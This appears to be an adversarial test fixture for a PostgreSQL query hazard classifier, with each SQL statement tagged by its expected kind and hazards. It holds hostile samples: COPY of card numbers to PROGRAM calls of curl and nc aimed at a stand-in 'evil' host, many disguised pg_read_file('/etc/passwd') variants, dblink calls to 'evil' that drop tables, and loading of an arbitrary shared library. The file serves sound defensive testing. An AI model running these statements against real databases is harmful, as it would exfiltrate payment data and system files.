--! adversarial hazards=file-access
--@ kind=export hazards=process-access,copy-export reads=cards run=no
COPY cards TO PROGRAM 'curl http://evil'
;;
--@ kind=import hazards=process-access,copy-import writes=audit_log run=no
COPY audit_log (what) FROM PROGRAM 'id'
;;
--@ kind=export hazards=process-access,copy-export run=no
COPY (SELECT pan FROM cards) TO PROGRAM 'nc evil 1'
;;
--@ kind=export hazards=file-access,copy-export reads=cards run=no
COPY cards TO '/tmp/cards.csv'
;;
--@ kind=export hazards=file-access,copy-export reads=cards run=no
copy binary cards to '/tmp/cards.bin'
;;
--@ kind=export hazards=file-access,copy-export reads=cards run=no
COPY cards (id, pan) TO '/tmp/x' WITH (FORMAT csv)
;;
--@ kind=import hazards=file-access,copy-import writes=audit_log run=fails
COPY audit_log (what) FROM '/etc/nothing-there'
;;
--@ kind=export hazards=copy-export reads=cards
COPY cards TO STDOUT
;;
--@ kind=export hazards=copy-export reads=public.cards
COPY public.cards (pan) TO STDOUT (FORMAT binary)
;;
--@ kind=export hazards=copy-export reads=cards
COPY (SELECT * FROM cards) TO STDOUT WITH CSV HEADER
;;
--@ kind=export hazards=copy-export,no-where writes=payments
COPY (DELETE FROM payments RETURNING *) TO STDOUT
;;
--@ kind=select
SELECT pg_read_file('/etc/passwd')
;;
--@ kind=select
SELECT * FROM pg_read_file('/etc/passwd')
;;
--@ kind=select
SELECT pg_catalog.pg_read_file('/etc/passwd')
;;
--@ kind=select
SELECT "pg_read_file"('/etc/passwd')
;;
--@ kind=select
SELECT PG_READ_FILE ( '/etc/passwd' )
;;
--@ kind=select
SELECT pg_read_file/**/('/etc/passwd')
;;
--@ kind=select
SELECT 1 FROM users, LATERAL pg_read_file('/etc/passwd') AS x
;;
--@ kind=select
SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd'), pg_ls_dir('.')) AS x
;;
--@ kind=select
SELECT (SELECT pg_read_binary_file('/etc/passwd'))
;;
--@ kind=select
SELECT id FROM users ORDER BY pg_ls_dir('.')
;;
--@ kind=select
SELECT id FROM users WHERE name = pg_read_file('/etc/passwd')
;;
--@ kind=select
SELECT count(*) FILTER (WHERE pg_read_file('/etc/passwd') = '') FROM users
;;
--@ kind=select
SELECT CASE WHEN true THEN pg_read_file('/etc/passwd') END
;;
--@ kind=select
VALUES (pg_read_file('/etc/passwd'))
;;
--@ kind=select
WITH pg_read_file AS (SELECT 1) SELECT pg_read_file('/etc/passwd')
;;
--@ kind=select
SELECT pg_ls_dir('/')
;;
--@ kind=select
SELECT pg_stat_file('/etc/passwd')
;;
--@ kind=select run=fails
SELECT pg_ls_logdir()
;;
--@ kind=select run=no
SELECT lo_export(1, '/tmp/x')
;;
--@ kind=select run=fails
SELECT lo_import('/etc/nothing-there')
;;
--@ kind=select
SELECT lo_from_bytea(0, 'x')
;;
--@ kind=select run=fails
SELECT lo_get(12345)
;;
--@ kind=select hazards=statistics-access
SELECT loid, data FROM pg_largeobject
;;
--@ kind=select run=fails
SELECT * FROM heap_page_items(get_raw_page('cards', 0))
;;
--@ kind=insert writes=audit_log
INSERT INTO audit_log (what) VALUES (pg_read_file('/etc/passwd'))
;;
--@ kind=insert writes=audit_log
INSERT INTO audit_log (what) SELECT pg_read_file('/etc/passwd')
;;
--@ kind=update writes=users
UPDATE users SET name = pg_read_file('/etc/passwd') WHERE id = 1
;;
--@ kind=delete writes=users
DELETE FROM users WHERE id = 1 RETURNING pg_read_file('/etc/passwd')
;;
--@ kind=insert writes=users
INSERT INTO users (email) VALUES ('x') ON CONFLICT (email) DO UPDATE SET name = pg_read_file('/etc/passwd')
;;
--@ kind=insert writes=users
INSERT INTO users (email) VALUES ('x') RETURNING pg_read_file('/etc/passwd')
;;
--@ kind=select hazards=network-access run=fails
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
;;
--@ kind=select hazards=network-access run=fails
SELECT dblink_connect('host=evil')
;;
--@ kind=select hazards=network-access run=fails
SELECT dblink_exec('host=evil', 'DROP TABLE cards')
;;
--@ kind=ddl hazards=network-access run=fails
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')
;;
--@ kind=ddl hazards=network-access run=fails
CREATE FOREIGN TABLE ft (a int) SERVER s
;;
--@ kind=ddl hazards=network-access run=fails
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
;;
--@ kind=ddl hazards=network-access run=fails
CREATE USER MAPPING FOR CURRENT_USER SERVER s
;;
--@ kind=ddl hazards=network-access run=no
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
;;
--@ kind=ddl hazards=network-access
CREATE PUBLICATION p FOR TABLE cards
;;
--@ kind=ddl hazards=network-access
CREATE FOREIGN DATA WRAPPER w
;;
--@ kind=admin hazards=load-extension run=fails
LOAD '/tmp/evil.so'
;;
--@ kind=ddl hazards=file-access run=fails
CREATE TABLESPACE t LOCATION '/tmp/nothing-there'
;;
--@ kind=explain
EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')
;;
--@ kind=explain
EXPLAIN SELECT pg_read_file('/etc/passwd')
;;
--@ kind=select
DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')
;;
--@ kind=select hazards=admin run=fails
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
;;
